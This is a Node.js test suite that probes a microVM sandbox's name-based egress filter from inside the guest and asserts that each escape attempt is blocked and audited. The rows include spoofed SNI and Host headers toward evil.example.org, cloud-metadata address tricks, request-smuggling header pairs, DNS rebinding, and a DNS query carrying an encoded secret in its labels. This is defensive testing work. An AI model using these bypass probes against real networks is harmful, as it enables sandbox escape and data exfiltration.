// SPDX-License-Identifier: GPL-2.0-or-later
//
// Ways out, tried from inside a real microVM whose policy has names. Each row says what the guest sees, and whether the
// far end may see anything of it: `far` names what may arrive, everything else must be nothing at all.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { get } from './lib/api.mjs';
import { withConfig } from './lib/daemon.mjs';
import { forget, internetDown, internetUp, seen } from './lib/internet.mjs';
import { BOOT_MS, sh, until, withSandbox } from './lib/sandbox.mjs';

const network = { allowOut: ['good.example.com', '*.wild.example.com', 'private.example.com', 'loop.example.com',
	'metadata.example.com', 'mixed.example.com', 'host.example.com', 'alias.example.com', 'ring.example.com', '198.51.100.77'] };
const GOOD = '198.51.100.10';		// good.example.com, and shared.example.com, which is not allowed
const WILD = '198.51.100.20';		// a.wild.example.com
const EVIL = '198.51.100.66';
const http = (host, line = 'GET / HTTP/1.1', more = '') => `${line}\r\nHost: ${host}\r\n${more}\r\n`;
const hello = /^got:HTTP\/1\.1 200/;
const no = /^(refused|reset|closed|timeout|tls:.*)$/;
const closed = /^(reset|closed)$/;

// [name, probe, what the guest sees, may the far end see it? (default: nothing)]
const rows = [
	// what must work, or the rest proves nothing
	['allowed name over HTTP', { kind: 'raw', host: GOOD, data: http('good.example.com') }, hello, GOOD],
	['allowed name over TLS', { kind: 'tls', host: GOOD, port: 443, sni: 'good.example.com' }, /^echo$/, GOOD],
	['upper case', { kind: 'tls', host: GOOD, port: 443, sni: 'GOOD.Example.COM' }, /^echo$/, GOOD],
	['wildcard', { kind: 'raw', host: WILD, data: http('a.wild.example.com') }, hello, WILD],
	['ClientHello byte by byte', { kind: 'tls', host: GOOD, port: 443, sni: 'good.example.com', step: 1 }, /^echo$/, GOOD],
	['ClientHello in many records', { kind: 'tls', host: GOOD, port: 443, sni: 'good.example.com', records: 50 }, /^echo$/, GOOD],
	['listed address, any port', { kind: 'tcp', host: '198.51.100.77', port: 5000 }, /^open$/, '198.51.100.77'],
	['Host with its port', { kind: 'raw', host: GOOD, data: http('good.example.com:80') }, hello, GOOD],
	['request in pieces', { kind: 'raw', host: GOOD, data: http('good.example.com'), step: 7 }, hello, GOOD],

	// addresses
	['unlisted address, HTTP', { kind: 'tcp', host: '1.1.1.1', port: 80 }, /^refused$/],
	['unlisted address, TLS', { kind: 'tls', host: '1.1.1.1', port: 443, sni: 'good.example.com' }, /^refused$/],
	['unlisted address, the proxy\'s own port', { kind: 'tcp', host: '1.1.1.1', port: 9040 }, /^refused$/],
	['unlisted address, the resolver\'s own port', { kind: 'tcp', host: '1.1.1.1', port: 9053 }, /^refused$/],
	['gateway, the proxy\'s own port', { kind: 'tcp', host: '10.214.0.1', port: 9040 }, /^refused$/],
	['gateway, the resolver\'s own port', { kind: 'tcp', host: '10.214.0.1', port: 9053 }, /^refused$/],
	['gateway, the API', { kind: 'tcp', host: '10.214.0.1', port: 8080 }, /^refused$/],
	['gateway, ssh', { kind: 'tcp', host: '10.214.0.1', port: 22 }, /^refused$/],
	['the host\'s other address', { kind: 'tcp', host: '203.0.113.1', port: 8080 }, /^refused$/],
	['metadata', { kind: 'tcp', host: '169.254.169.254', port: 80 }, /^refused$/],
	['metadata of another cloud', { kind: 'tcp', host: '100.100.100.200', port: 80 }, /^refused$/],
	['metadata as a number', { kind: 'tcp', host: '2852039166', port: 80 }, /^(refused|oserror:-?\d+)$/],
	['metadata in octal', { kind: 'tcp', host: '0251.0376.0251.0376', port: 80 }, /^(refused|oserror:-?\d+)$/],
	['metadata mapped into IPv6', { kind: 'tcp', host: '::ffff:169.254.169.254', port: 80 }, /^(refused|oserror:-?\d+)$/],
	['an address mapped into IPv6', { kind: 'tcp', host: '::ffff:1.1.1.1', port: 80 }, /^(refused|oserror:-?\d+)$/],
	['private 10/8', { kind: 'tcp', host: '10.0.0.1', port: 80 }, /^refused$/],
	['private 192.168/16', { kind: 'tcp', host: '192.168.1.1', port: 80 }, /^refused$/],
	['private 172.16/12', { kind: 'tcp', host: '172.16.0.1', port: 80 }, /^refused$/],
	['shared 100.64/10', { kind: 'tcp', host: '100.64.0.1', port: 80 }, /^refused$/],
	['multicast', { kind: 'tcp', host: '224.0.0.1', port: 80 }, /^(refused|oserror:\d+)$/],

	// names that lie
	['TLS name of somebody else', { kind: 'tls', host: GOOD, port: 443, sni: 'evil.example.org' }, closed],
	['TLS name that shares the address', { kind: 'tls', host: GOOD, port: 443, sni: 'shared.example.com' }, closed],
	['TLS name allowed, address of another allowed name', { kind: 'tls', host: WILD, port: 443, sni: 'good.example.com' }, closed],
	['TLS name: the apex of a wildcard', { kind: 'tls', host: WILD, port: 443, sni: 'wild.example.com' }, closed],
	['TLS without a name', { kind: 'tls', host: GOOD, port: 443 }, closed],
	['TLS with an encrypted hello', { kind: 'tls', host: GOOD, port: 443, sni: 'good.example.com', ech: true }, closed],
	['TLS name with a suffix', { kind: 'tls', host: GOOD, port: 443, sni: 'good.example.com.evil.example.org' }, closed],
	['Host of somebody else', { kind: 'raw', host: GOOD, data: http('evil.example.org') }, closed],
	['Host that shares the address', { kind: 'raw', host: GOOD, data: http('shared.example.com') }, closed],
	['Host allowed, address of another allowed name', { kind: 'raw', host: WILD, data: http('good.example.com') }, closed],
	['no Host', { kind: 'raw', host: GOOD, data: 'GET / HTTP/1.1\r\n\r\n' }, closed],
	['two Hosts', { kind: 'raw', host: GOOD, data: http('good.example.com', 'GET / HTTP/1.1', 'Host: evil.example.org\r\n') }, closed],
	['Host with user', { kind: 'raw', host: GOOD, data: http('good.example.com@evil.example.org') }, closed],
	['Host is the address', { kind: 'raw', host: GOOD, data: http(GOOD) }, closed],
	['absolute form for another', { kind: 'raw', host: GOOD, data: http('good.example.com', 'GET http://evil.example.org/ HTTP/1.1') }, closed],
	['CONNECT', { kind: 'raw', host: GOOD, data: http('good.example.com', 'CONNECT evil.example.org:443 HTTP/1.1') }, closed],
	['HTTP/0.9', { kind: 'raw', host: GOOD, data: 'GET /\r\n\r\n' }, closed],
	['HTTP/2 in the clear', { kind: 'raw', host: GOOD, data: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' }, closed],
	['length twice', { kind: 'raw', host: GOOD, data: http('good.example.com', 'POST / HTTP/1.1', 'Content-Length: 1\r\nContent-Length: 2\r\n') }, closed],
	['length and chunks', { kind: 'raw', host: GOOD, data: http('good.example.com', 'POST / HTTP/1.1', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n') }, closed],
	['odd transfer coding', { kind: 'raw', host: GOOD, data: http('good.example.com', 'POST / HTTP/1.1', 'Transfer-Encoding: xchunked\r\n') }, closed],
	['bare line feeds', { kind: 'raw', host: GOOD, data: 'GET / HTTP/1.1\nHost: good.example.com\n\n' }, closed],
	['ssh on an open port', { kind: 'raw', host: GOOD, port: 22, data: 'SSH-2.0-x\r\n' }, closed],
	['something else on 443', { kind: 'raw', host: GOOD, port: 443, data: '\x00\x01\x02\x03' }, closed],
	['a server that would speak first', { kind: 'raw', host: GOOD, port: 22, data: '' }, no],

	// DNS
	['allowed name resolves', { kind: 'dns', name: 'good.example.com' }, new RegExp(`^rcode0 ${GOOD}$`), 'dns:good.example.com'],
	['allowed name, another resolver: ours answers', { kind: 'dns', name: 'a.wild.example.com', server: '8.8.8.8' },
		new RegExp(`^rcode0 ${WILD}$`), 'dns:a.wild.example.com'],
	['allowed name over TCP', { kind: 'dns', name: 'good.example.com', tcp: true }, new RegExp(`^rcode0 ${GOOD}$`), 'dns:good.example.com'],
	['denied name', { kind: 'dns', name: 'evil.example.org' }, /^rcode[35] $/],
	['apex of a wildcard', { kind: 'dns', name: 'wild.example.com' }, /^rcode[35] $/],
	['secrets in labels', { kind: 'dns', name: 'c2VjcmV0.evil.example.org' }, /^rcode[35] $/],
	['secrets in labels of an allowed name', { kind: 'dns', name: 'c2VjcmV0.good.example.com' }, /^rcode[35] $/],
	['text record', { kind: 'dns', name: 'good.example.com', type: 16 }, /^rcode\d+ $/],
	['any record', { kind: 'dns', name: 'good.example.com', type: 255 }, /^rcode\d+ $/],
	['service record with keys for encrypted hellos', { kind: 'dns', name: 'good.example.com', type: 65 }, /^rcode\d+ $/],
	['IPv6 address', { kind: 'dns', name: 'good.example.com', type: 28 }, /^rcode0 $/],
	['rebinding to a private address', { kind: 'dns', name: 'private.example.com' }, /^rcode\d+ $/, 'dns:private.example.com'],
	['rebinding to loopback', { kind: 'dns', name: 'loop.example.com' }, /^rcode\d+ $/, 'dns:loop.example.com'],
	['rebinding to metadata', { kind: 'dns', name: 'metadata.example.com' }, /^rcode\d+ $/, 'dns:metadata.example.com'],
	['rebinding, mixed with a good one', { kind: 'dns', name: 'mixed.example.com' }, /^rcode0 198\.51\.100\.12$/, 'dns:mixed.example.com'],
	['CNAMEs in a ring', { kind: 'dns', name: 'ring.example.com' }, /^rcode\d+ $/, /^dns:ring/],
	['foreign resolver over TCP', { kind: 'tcp', host: '8.8.8.8', port: 53 }, /^refused$/],
	['DNS over TLS', { kind: 'tcp', host: '8.8.8.8', port: 853 }, /^refused$/],
	['canary for DNS over HTTPS', { kind: 'dns', name: 'use-application-dns.net' }, /^rcode[35] $/],

	// other protocols
	['QUIC to an allowed address', { kind: 'udp', host: GOOD, port: 443, data: '\xc0'.padEnd(1200, 'x') }, /^(refused|timeout)$/],
	['UDP elsewhere', { kind: 'udp', host: '9.9.9.9', port: 123 }, /^(refused|timeout)$/],
	['ping', { kind: 'sendraw', proto: 1, host: '1.1.1.1', data: '\x08\x00\xf7\xff\x00\x00\x00\x00' }, /^(sent|refused)$/],
	['GRE', { kind: 'sendraw', proto: 47, host: GOOD }, /^(sent|refused)$/],
	['SCTP', { kind: 'sendraw', proto: 132, host: GOOD }, /^(sent|refused)$/],
	['IPv6 in IPv4', { kind: 'sendraw', proto: 41, host: GOOD }, /^(sent|refused)$/],
	['source routing', { kind: 'sendraw', proto: 17, host: '198.51.100.77', options: [131, 7, 4, 198, 51, 100, 66, 0] }, /^(sent|refused|oserror:\d+)$/],
	['IPv6 frame', { kind: 'frame', hex: `02dec1aa0001020000000001${'86dd'}${'60000000000811ff'}${'20010db8000000000000000000000002'}${'20010db8000000000000000000000001'}${'0001000100080000'}` }, /^sent$/],
	['ARP for the gateway', { kind: 'frame', hex: `ffffffffffff0200000000010806${'0001080006040001'}${'020000000001'}${'0ad60001'}${'000000000000'}${'0ad60001'}` }, /^sent$/],
	['DHCP', { kind: 'udp', host: '255.255.255.255', port: 67 }, /^(refused|timeout|oserror:\d+)$/],
];

let sbx, done;

before(async () => {
	await internetUp();
	// one sandbox for all: what one probe does must not open a way for another
	await new Promise((resolve, reject) => {
		done = {};
		done.all = withConfig('[egress]\nupstream_dns = 203.0.113.53\n', () =>
			withSandbox({ template: 'python', timeout: 900, network }, (s) => new Promise((end) => {
				sbx = s;
				done.end = end;
				resolve();
			}))).catch(reject);
	});
	await sbx.files.write('/tmp/probe.py', readFileSync(new URL('data/probe.py', import.meta.url), 'utf8'));
	// the names that are allowed are resolved once, as a program would
	await until('names resolve', async () =>
		(await probe([{ kind: 'dns', name: 'good.example.com' }, { kind: 'dns', name: 'a.wild.example.com' }]))
			.every((r) => r.startsWith('rcode0 198')), 30_000, 500);
}, { timeout: 180_000 });

after(async () => {
	done?.end?.();
	await done?.all;
	await internetDown();
}, { timeout: 120_000 });

async function probe(list) {
	await sbx.files.write('/tmp/probes', list.map((p) => JSON.stringify(p)).join('\n'));

	const r = await sbx.commands.run('python3 /tmp/probe.py </tmp/probes', { user: 'root', timeout: 60 });

	assert.equal(r.exitCode, 0, r.stderr);
	return r.stdout.trimEnd().split('\n').map((line) => JSON.parse(line));
}

const arrived = (rows) => [...new Set(rows.filter((r) => r.what !== 'ready')
	.map((r) => (r.proto === 'dns' ? `dns:${r.name?.toLowerCase()}` : r.to)))];

for (const [name, what, expected, far] of rows) {
	test(`probe: ${name}`, { timeout: 60_000 }, async () => {
		await forget();

		const [answer] = await probe([what]);

		assert.match(answer, expected);
		for (const place of arrived(await seen()))
			assert.ok(far instanceof RegExp ? far.test(place) : place === far, `${place} has seen something`);
	});
}

test('probe: another Host on a connection that is open', { timeout: 60_000 }, async () => {
	await forget();

	const [answer] = await probe([{ kind: 'raw', host: GOOD, pause: 1, step: http('good.example.com').length,
		data: `${http('good.example.com')}${http('evil.example.org').padEnd(http('good.example.com').length)}` }]);

	assert.match(answer, hello);

	const data = (await seen()).filter((r) => r.what === 'data').map((r) => r.data).join('');

	assert.ok(data.includes('good.example.com'));
	assert.ok(!data.includes('evil'), data);
});

test('probe: programs that behave get through', { timeout: 60_000 }, async () => {
	const id = sbx.sandboxId;
	const shown = (await get(`/sandboxes/${id}/network`)).json;

	assert.equal(shown.policy.mode, 'names');
	assert.equal(await sh(sbx, 'curl -sS -m 5 http://good.example.com/'), `hello from ${GOOD}:80\n`);
});

test('probe: every verdict is in the audit', { timeout: 60_000 }, async () => {
	const audit = (await get(`/sandboxes/${sbx.sandboxId}/audit?limit=1000`)).json;
	const list = audit.events ?? audit.items ?? audit.audit ?? audit;
	const text = JSON.stringify(list);

	for (const word of ['evil.example.org', 'encrypted_client_hello', 'wildcard_apex', 'address_of_another_name', '169.254.169.254'])
		assert.ok(text.includes(word), `${word} is not in the audit`);
});
